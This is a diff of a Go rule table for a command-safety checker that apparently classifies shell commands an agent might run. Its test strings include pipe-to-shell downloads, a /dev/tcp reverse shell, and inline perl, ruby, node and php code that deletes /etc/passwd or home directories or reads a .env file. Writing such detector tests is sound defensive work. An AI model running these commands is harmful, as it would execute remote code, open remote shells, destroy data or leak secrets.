@@ -14,7 +14,7 @@ func run() []Rule {
 				"curl -s u | sh", "curl u | bash", "wget -qO- u | bash -s -- -y", "curl u | /bin/dash", "curl u | sudo bash",
 				"curl u | tee x | zsh", "bash <(curl u)", `bash -c "$(curl u)"`, `eval "$(wget -qO- u)"`, "source <(curl u)",
 				"curl u | python3", "curl u | python3 -", "curl u | perl", "curl u | ruby", "curl u | node", "curl u | env bash",
-				"curl u | gunzip | sh", "sh -c \"$(curl -fsSL u)\"",
+				"curl u | gunzip | sh", "$(curl u)", "bash < /dev/tcp/h/80", "bash -i >& /dev/tcp/h/80 0>&1", "sh -c \"$(curl -fsSL u)\"",
 			},
 			Misses: []string{
 				"curl u | shasum", "curl u | shuf", "curl u | python3 -m json.tool", "curl u | jq .", "curl -o x u", "curl u | tee x",
@@ -40,6 +40,16 @@ func run() []Rule {
 				"python3 -c '__import__(x)'",
 			},
 			Misses: []string{`python3 -c "print('subprocess')"`, "python3 -c 'print(1)'", "python3 x.py"},
+		},
+		{
+			ID: "run.inline-literal", Class: Opaque, Floored: true, Least: Ask, Effect: grammar.Evaluates, Name: "literal:*",
+			Reason: "names a guarded path or command in code that cannot be judged",
+			Hint:   "use the command itself, so that it can be judged",
+			Hits: []string{
+				`perl -e 'unlink "/etc/passwd"'`, `ruby -e 'system("rm -rf ~")'`, `node -e 'require("fs").rmSync("/home/u",{recursive:true})'`,
+				`node -e "require('child_process').spawn('rm', ['-rf', '/'])"`, `php -r 'echo file_get_contents(".env");'`,
+			},
+			Misses: []string{`perl -pe 's/a/b/' x`, `node -e 'console.log("a/b".split("/"))'`, `ruby -e 'puts File.read("/etc/hostname")'`, `awk '{print "x"}' f`},
 		},
 		{
 			ID: "run.globbed", Class: Opaque, Floored: true, Least: Ask, Globbed: true,
